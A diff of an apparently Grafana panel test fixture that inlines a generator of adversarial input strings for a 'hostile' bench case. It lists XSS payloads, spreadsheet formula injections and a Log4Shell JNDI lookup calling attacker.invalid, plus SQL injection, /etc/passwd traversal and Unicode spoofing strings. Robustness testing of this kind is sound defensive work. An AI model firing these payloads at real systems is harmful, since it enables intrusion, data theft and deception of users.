@@ -1,7 +1,54 @@
-import type { DataFrame } from "@grafana/data";
-import { FieldType, toDataFrame } from "@grafana/data";
+import { type DataFrame, FieldType, toDataFrame } from "@grafana/data";
 import { type BenchSeries, type DeploymentCase, deploymentSeries, frameOf, gpuSeries, timesUntil } from "./frames.ts";
-import { hostileTexts } from "./hostile-texts.ts";
+
+/** Text that would do harm where it is taken for anything but text, by class; `n` makes each its own. */
+const classes: readonly ((n: number) => string)[] = [
+  (n) => `<script>window.__owned=${n}</script>`,
+  (n) => `</script><script>window.__owned=${n}</script>`,
+  (n) => `<img src=x onerror=window.__owned=${n}>`,
+  (n) => `"><svg onload=window.__owned=${n}>`,
+  (n) => `<svg><animate onbegin=window.__owned=${n} attributeName=x dur=1s>`,
+  (n) => `<iframe srcdoc="<script>parent.__owned=${n}</script>">`,
+  (n) => `<a href="javascript:window.__owned=${n}">more</a>`,
+  (n) => `javascript:window.__owned=${n}//`,
+  (n) => ` jAvAsCrIpT\t:window.__owned=${n}`,
+  (n) => `data:text/html;base64,PHNjcmlwdD4ke${n}`,
+  (n) => `=CMD|'/C calc'!A${n}`,
+  (n) => `+1+cmd|'/C calc'!A${n}`,
+  (n) => `-2+3+cmd|'/C calc'!A${n}`,
+  (n) => `@SUM(1+${n})*cmd|'/C calc'!A0`,
+  (n) => `\t=HYPERLINK("https://attacker.invalid/${n}","click")`,
+  (n) => `\r=IMPORTXML("https://attacker.invalid/${n}","//a")`,
+  (n) => `chat\u202e${n}\u202dtxt.exe`,
+  (n) => `\u2067right to left\u2069 ${n}`,
+  (n) => `zero\u200bwidth\u200c\u200d\ufeff${n}`,
+  (n) => `${"z̷".repeat(200)}${n}`,
+  (n) => `null\u0000byte${n}`,
+  (n) => `\u001b[31mred\u001b[0m${n}`,
+  (n) => `line\nbreak\r\n${n}`,
+  (n) => `\${window.__owned=${n}}`,
+  (n) => `{{constructor.constructor("window.__owned=${n}")()}}`,
+  (n) => `\`;window.__owned=${n};\``,
+  (n) => `');window.__owned=${n};//`,
+  (n) => `"; DROP TABLE decisions; -- ${n}`,
+  (n) => `\${jndi:ldap://attacker.invalid/${n}}`,
+  (n) => `../../../../etc/passwd%00${n}`,
+  (n) => `%3Cscript%3Ewindow.__owned%3D${n}%3C/script%3E`,
+  (n) => `&lt;script&gt;window.__owned=${n}&lt;/script&gt;`,
+  (n) => `<style>*{background:url(https://attacker.invalid/${n})}</style>`,
+  (n) =>
+    `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror='window.__owned=${n}'>">`,
+  (n) => `<base href="https://attacker.invalid/${n}/">`,
+  (n) => `<form action="javascript:window.__owned=${n}"><button>ok</button></form>`,
+  (n) => `\ud800unpaired${n}`,
+  (n) => `__proto__${n}`,
+  (n) => `constructor${n}`,
+  (n) => `${"x".repeat(10_240)}${n}`,
+];
+
+/** `count` different texts, the classes in turn. */
+export const hostileTexts = (count: number): readonly string[] =>
+  Array.from({ length: count }, (_, n) => classes[n % classes.length]?.(n) ?? "");
 
 /** What a panel may be given. */
 export const benchCases = ["live", "empty", "partial", "stale", "huge", "streaming", "hostile"] as const;
